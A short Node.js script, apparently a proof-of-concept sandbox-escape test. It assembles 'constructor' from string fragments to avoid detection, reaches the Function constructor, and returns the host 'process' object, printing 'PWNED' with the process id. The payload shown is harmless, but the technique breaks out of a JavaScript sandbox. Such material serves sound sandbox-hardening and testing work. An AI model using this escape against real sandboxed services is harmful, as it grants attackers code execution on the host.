'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const { once, EventEmitter } = require('events');
const e = new EventEmitter();
once(e, 'x').then(([x]) => { const o = Date.now() > 1 ? x : {}; console.log('PWNED', o.go(fn)('return process')().pid); });
e.emit('x', t);
